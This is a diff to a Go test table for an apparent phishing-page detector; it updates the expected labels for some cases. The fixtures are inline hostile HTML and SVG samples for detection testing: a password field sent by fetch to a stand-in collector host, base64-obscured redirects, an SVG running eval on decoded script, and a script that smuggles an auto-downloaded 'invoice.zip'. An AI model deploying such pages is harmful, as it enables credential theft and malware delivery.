@@ -64,7 +64,7 @@ func TestPages(t *testing.T) {
 		{"sent by fetch", "a.html", `<input type=password id=p><script>fetch('https://collect.example/p', {method:'POST', body: p.value})</script>`, "page-asks-password page-runs-script", "https://collect.example/p"},
 		{"refresh", "a.html", `<meta http-equiv="refresh" content="0; url='https://go.example/x'">`, "page-redirects", "https://go.example/x"},
 		{"location", "a.html", `<script>window.location.href = "https://" + "go.exam" + "ple/x";</script>`, "page-redirects page-runs-script", "https://go.example/x"},
-		{"location replaced", "a.shtml", `<body onload="location.replace(atob('` + b64("https://go.example/x") + `'))">`, "page-redirects page-runs-script", "https://go.example/x"},
+		{"location replaced", "a.shtml", `<body onload="location.replace(atob('` + b64("https://go.example/x") + `'))">`, "page-decodes-itself page-redirects page-runs-script", "https://go.example/x"},
 		{"with the reader", "a.html", `<script>var e="maren.okafor@northwindharbour.example";location.href="https://go.example/x#"+e</script>`, "page-names-reader page-redirects page-runs-script", "https://go.example/x#maren.okafor@northwindharbour.example"},
 		{"whole frame", "a.html", `<iframe src="https://go.example/x" width="100%" height="100%"></iframe>`, "page-frames-site", "https://go.example/x"},
 		{"builds an archive", "a.html", "<script>var f='" + b64(zip) + "';var b=new Blob([atob(f)],{type:'octet/stream'});var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.zip';a.click()</script>", "page-builds-file page-runs-script", ""},
@@ -74,7 +74,7 @@ func TestPages(t *testing.T) {
 		{"UTF-16", "a.html", utf16LE(login), "page-asks-password", "https://collect.example/p.php"},
 		{"picture with script", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script type="text/javascript"><![CDATA[window.location.href="https://go.example/x"; eval(atob("` + b64("var x = 1 + 1; document.title = x;") + `"))]]></script></svg>`, "page-decodes-itself page-redirects svg-script", "https://go.example/x"},
 		{"picture with page", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100%" height="100%"><body xmlns="http://www.w3.org/1999/xhtml">` + login[12:] + `</foreignObject></svg>`, "page-asks-password svg-holds-page", "https://collect.example/p.php"},
-		{"picture that loads", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="location='https://go.example/x'"><rect width="9" height="9"/></svg>`, "page-redirects page-runs-script", "https://go.example/x"},
+		{"picture that loads", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="location='https://go.example/x'"><rect width="9" height="9"/></svg>`, "page-redirects svg-script", "https://go.example/x"},
 	} {
 		m, r := look(c.file, []byte(c.page))
 		if got := factIDs(r); got != c.facts {
